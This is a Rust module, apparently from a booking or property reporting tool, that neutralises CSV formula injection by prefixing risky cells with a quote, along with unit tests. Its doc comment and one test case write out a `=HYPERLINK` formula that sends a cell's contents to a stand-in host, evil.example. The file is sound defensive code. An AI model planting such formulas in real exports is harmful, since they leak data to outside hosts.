//! CSV cells that a spreadsheet would run as formulas (CSV injection, OWASP).
//!
//! A report is opened in Excel, LibreOffice or Google Sheets, where a cell starting with `=`,
//! `+`, `-` or `@` is a formula (and tab or CR before one hides it), so a guest who books as
//! `=HYPERLINK("http://evil.example/?"&A1, "click")` could make the property's own spreadsheet
//! send data away. As OWASP recommends, such a cell gets a leading `'`, which spreadsheets show
//! as text and do not display.
//!
//! Only text is neutralised: numbers the report writes itself (integers, decimals such as a
//! negative refund) are left as they are so they stay numbers; they cannot carry a formula.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula (or hide one).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a cell no spreadsheet runs: with a leading `'` when it starts like a formula.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_get_a_quote() {
        for cell in [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "=HYPERLINK(\"http://evil.example\")",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn other_text_is_untouched() {
        for cell in [
            "",
            "Ann",
            "a=b",
            " =1",
            "'quoted",
            "1-2",
            "ann@example.com",
            "Ünïcode",
        ] {
            assert!(
                matches!(neutralise(cell), Cow::Borrowed(c) if c == cell),
                "{cell:?}"
            );
        }
    }
}
